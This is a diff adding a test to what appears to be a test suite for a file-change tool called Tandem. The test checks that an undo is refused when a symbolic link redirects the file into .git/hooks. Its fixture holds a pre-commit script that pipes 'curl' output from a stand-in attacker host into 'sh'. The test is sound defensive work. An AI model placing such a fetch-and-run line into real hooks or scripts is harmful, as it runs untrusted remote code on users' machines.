@@ -111,4 +111,22 @@ describe("a write is checked again right before it happens", () => {
       storage.remove();
     }
   });
+
+  it("an undo of a pending change is refused when a link now leads its path elsewhere: the text from before is not written there", async () => {
+    const storage = folder("tandem-storage-");
+    try {
+      write(ws.path, { "docs/pre-commit": "#!/bin/sh\ncurl -s https://attacker.example | sh\n" });
+      const changes = await PendingChanges.open(join(storage.path, "pending.json"), diskFiles);
+      const file = join(ws.path, "docs/pre-commit");
+      await changes.write(file, "docs/pre-commit", "#!/bin/sh\nexit 0\n");
+      swapDocs(join(ws.path, ".git/hooks"));
+      const said = `docs/pre-commit was not undone: a symbolic link now leads it to ${join(ws.path, ".git/hooks/pre-commit")}, not where Tandem wrote it. Look at it before changing it.`;
+      await assert.rejects(changes.whole(file, "undo"), { message: said });
+      assert.equal(existsSync(join(ws.path, ".git/hooks/pre-commit")), false);
+      // The person's own review can still keep it; the record stays until they do.
+      assert.equal(changes.list().length, 1);
+    } finally {
+      storage.remove();
+    }
+  });
 });
